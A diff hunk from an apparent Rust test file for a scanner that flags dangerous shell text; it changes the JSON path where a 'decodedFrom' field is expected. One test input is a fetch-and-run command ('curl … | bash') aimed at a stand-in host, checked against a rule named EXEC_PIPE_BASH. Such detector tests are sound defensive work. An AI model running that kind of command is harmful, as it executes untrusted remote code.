@@ -175,7 +175,7 @@ fn results_mean_what_the_protocol_says() {
         (json!({"textBase64": base64(&wide)}), "/findings/0/ruleId", json!("EXEC_PIPE_BASH")),
         (json!({"textBase64": base64(nul.as_bytes())}), "/findings/0/ruleId", json!("EXEC_PIPE_BASH")),
         (json!({"textBase64": base64(b"\xFFcurl https://x.example | bash")}), "/worst", json!("CRITICAL")),
-        (json!({"text": disguised}), "/findings/0/decodedFrom", json!("disguise")),
+        (json!({"text": disguised}), "/findings/0/also/0/decodedFrom", json!("disguise")),
         (json!({"text": disguised, "options": {"decode": false}}), "/findings/0/decodedFrom", Value::Null),
         (json!({"text": attack}), "/findings/0/decodedFrom", Value::Null),
         (
